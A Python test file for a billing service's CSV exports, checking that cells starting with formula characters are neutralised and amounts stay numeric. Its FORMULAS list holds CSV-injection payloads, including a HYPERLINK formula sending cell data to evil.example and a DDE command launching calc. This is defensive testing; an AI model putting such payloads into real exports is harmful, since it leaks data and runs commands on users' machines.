"""CSV exports never hand a spreadsheet a formula: text cells starting with = + - @ (tab, CR) are neutralised,
and amounts stay numbers (a negative balance is still a negative number, not text).

Both exports are driven through the functions their routes answer with: remittance's A/R aging
(GET /v1/ar/aging.csv) and denials' analytics (GET /v1/denials/analytics?format=csv).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from services.denials.entrypoints import http as denials_http
from services.remittance.domain.aging import BUCKETS, AgingRow
from services.remittance.entrypoints import http_receivables
from shared.http.spreadsheet_csv import csv_text, spreadsheet_cell

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "＝1+1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("payer", FORMULAS)
def test_the_ar_aging_export_neutralises_a_formula_in_a_key_and_keeps_amounts_numeric(payer: str) -> None:
    row = AgingRow(key=payer, credit=Decimal("-125.50"))
    row.add(10, Decimal("-40.00"))  # a refund owed: a negative amount
    row.add(45, Decimal("300.25"))
    response = http_receivables._csv([row], "payer", dt.date(2026, 12, 7))
    header, written = cells(response.body.decode())
    assert header == ["payer", *BUCKETS, "total", "credit"]
    assert written[0] == "'" + payer
    assert written[1:] == ["-40.00", "300.25", "0.00", "0.00", "0.00", "260.25", "-125.50"]


@pytest.mark.parametrize("key", FORMULAS)
def test_the_denials_analytics_export_neutralises_a_formula_in_a_key(key: str) -> None:
    response = denials_http._csv([{"key": key, "claims": 3, "denied": 1, "denial_rate": 0.3333,
                                   "denied_amount": "-12.50"}])
    header, written = cells(response.body.decode())
    assert header == ["key", "claims", "denied", "denial_rate", "denied_amount"]
    assert written == ["'" + key, "3", "1", "0.3333", "-12.50"]


@pytest.mark.parametrize("plain", ["SIMPAY", "60054", "payer-1", "Dr. O'Neil", "", "1-800-PAYER", "Blue=Cross"])
def test_ordinary_text_is_written_as_it_is(plain: str) -> None:
    response = denials_http._csv([{"key": plain, "claims": 1, "denied": 0, "denial_rate": 0.0,
                                   "denied_amount": "0.00"}])
    assert cells(response.body.decode())[1][0] == plain


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("  =1+1", "'  =1+1"), ("＠x", "'＠x"), ("－1", "'－1"), ("a=1", "a=1"), ("", ""),
    (Decimal("-12.50"), Decimal("-12.50")), (-3, -3), (-0.25, -0.25), (None, None),
    (True, "True"), (dt.date(2026, 12, 7), "2026-12-07"),
])
def test_spreadsheet_cells(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell


def test_a_negative_amount_passed_as_text_is_neutralised_which_is_why_amounts_are_passed_as_numbers() -> None:
    assert csv_text(["amount"], [["-12.50"], [Decimal("-12.50")]]) == "amount\r\n'-12.50\r\n-12.50\r\n"
